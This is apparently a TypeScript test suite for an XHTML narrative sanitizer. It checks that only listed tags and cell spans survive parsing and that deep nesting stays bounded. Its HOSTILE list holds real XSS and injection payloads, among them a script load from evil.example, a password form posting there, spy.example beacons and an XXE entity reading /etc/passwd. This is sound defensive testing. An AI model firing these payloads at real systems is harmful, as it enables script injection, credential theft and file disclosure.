import { expect } from "chai";
import fc from "fast-check";
import { type NarrativePiece, readNarrative } from "./read-narrative.ts";
import { SHOWN_TAGS } from "./tags.ts";

/** A piece as a short text: `table(tr(td:2(a) td(b)))`. */
const shown = (pieces: readonly NarrativePiece[]): string =>
  pieces
    .map((piece) =>
      typeof piece === "string"
        ? piece.replace(/\s+/g, " ")
        : `${piece.tag}${piece.columns ? `:${piece.columns}` : ""}(${shown(piece.children)})`,
    )
    .join(" ");
const read = (xhtml: string) =>
  shown(readNarrative(xhtml))
    .replace(/\s+/g, " ")
    .replace(/([(]) | (?=[)])/g, "$1")
    .trim();

/** Everything that any part says of itself. */
function* parts(pieces: readonly NarrativePiece[]): Generator<object> {
  for (const piece of pieces) {
    if (typeof piece === "string") continue;
    yield piece;
    yield* parts(piece.children);
  }
}

const HOSTILE = [
  "<script>steal()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
  "<script>a</script ><b>ok</b>",
  '<img src="https://spy.example/x.png" onerror="alert(1)" alt="a &lt;script>"/>',
  "<img src=x onerror=alert(1)",
  '<a href="javascript:alert(1)">here</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  "<svg><script>1</script><animate onbegin=alert(1)></svg>",
  "<math><mi xlink:href='javascript:1'>x</mi></math>",
  '<div style="background:url(https://spy.example)">a</div>',
  "<style>@import 'https://spy.example';</style>",
  "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button>go</button></form>",
  "<iframe srcdoc='<script>1</script>'></iframe>",
  '<object data="x.swf"></object><embed src=x>',
  "<base href=https://evil.example><meta http-equiv=refresh content='0;url=x'><link rel=stylesheet href=x>",
  "<!--><script>1</script>-->",
  "<![CDATA[<script>1</script>]]>",
  "<?xml-stylesheet href='x'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "<p title='>'><script x='</script>'>1</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<p/onclick=alert(1)>x",
  "<table><td onclick=a colspan=9999999 rowspan='-1'>x<tr><td colspan=\"99\">y</td></tr></table>",
  "<noscript><p title='</noscript><img src=x onerror=1>'>",
  "<isindex><marquee onstart=1>x</marquee><video src=x onerror=1><source src=x></video>",
  '<div xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></div>',
];

describe("readNarrative", () => {
  it("keeps what people wrote for people: paragraphs, lists, tables [C51]", () => {
    const xhtml = `<div xmlns="http://www.w3.org/1999/xhtml"><h3>Results</h3>
      <table class="grid" border="1"><caption>Blood</caption><thead><tr><th colspan="2">Test</th></tr></thead>
      <tbody><tr><td>HbA1c</td><td>7.0&#160;% &lt; 7.1</td></tr></tbody></table>
      <ul><li><b>One</b></li><li>Two<br/>lines</li></ul><p>See <a href="https://example.org">there</a></p></div>`;
    expect(read(xhtml)).to.equal(
      "div(p(strong(Results)) table(caption(Blood) thead(tr(th:2(Test))) tbody(tr(td(HbA1c) td(7.0 % < 7.1))))" +
        " ul(li(b(One)) li(Two br() lines)) p(See there))",
    );
  });

  it("leaves out what loads or runs, and keeps the words around it [C51]", () => {
    expect(read("<p>a<script>steal()</script>b</p>")).to.equal("p(a b)");
    expect(read('<p>a<img src="https://spy.example/x.png" alt="a chart"/></p>')).to.equal("p(a a chart)");
    expect(read("Seen <img src=x onerror=alert(1)")).to.equal("Seen");
    expect(read("Seen <script>steal()")).to.equal("Seen");
    expect(read("<scr<script>ipt>alert(1)</script>x")).to.not.include("script");
    expect(read("&lt;b&gt;not bold&lt;/b&gt;")).to.equal("<b>not bold</b>");
  });

  it("has tags where they mean something, and ends what nobody closed [C51]", () => {
    expect(read("<td>a</td><li>b</li><tr><td>c</td></tr>")).to.equal("a b c");
    expect(read("<p><b>a</p>b")).to.equal("p(b(a)) b");
    expect(read("</div></p>a")).to.equal("a");
    expect(read("a < b > c")).to.equal("a b > c");
  });

  it("says nothing of a part but its tag and how many cells it spans, whatever is in a file [C51]", () => {
    for (const xhtml of HOSTILE) {
      const pieces = readNarrative(xhtml);
      for (const part of parts(pieces)) {
        expect(Object.keys(part), xhtml).to.satisfy((keys: string[]) =>
          keys.every((key) => ["tag", "children", "columns", "rows"].includes(key)),
        );
        expect(SHOWN_TAGS, xhtml).to.include((part as { tag: never }).tag);
        const { columns = 2, rows = 2 } = part as { columns?: number; rows?: number };
        expect(
          [columns, rows].every((number) => number > 1 && number <= 50),
          xhtml,
        ).to.equal(true);
      }
    }
  });

  it("shows no tag that isn't on the list, of any mixture of hostile pieces [C51]", () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        "<",
        ">",
        "</",
        "/>",
        "'",
        '"',
        "<!--",
        "-->",
        "<p ",
        "<td",
        "=",
        "&#x3c;",
        "<div>",
        "</div>",
      ),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        for (const part of parts(readNarrative(pieces.join(""))))
          expect(SHOWN_TAGS).to.include((part as { tag: never }).tag);
      }),
      { numRuns: 2_000 },
    );
  });

  it("neither nests without end nor takes long [C56]", function () {
    this.timeout(20_000);
    const deep = readNarrative("<div>".repeat(100_000));
    let depth = 0;
    for (let piece = deep[0]; typeof piece === "object"; piece = piece.children[0]) depth++;
    expect(depth).to.equal(40);
    for (const many of ["<b>x</b>", "<p a='", "<!--", "<script>", "</p>", "&#", "<p x", "<b "]) {
      const started = performance.now();
      const count = [...parts(readNarrative(many.repeat(200_000)))].length;
      expect(count).to.be.at.most(10_000);
      expect(performance.now() - started, many).to.be.lessThan(4_000);
    }
  });
});
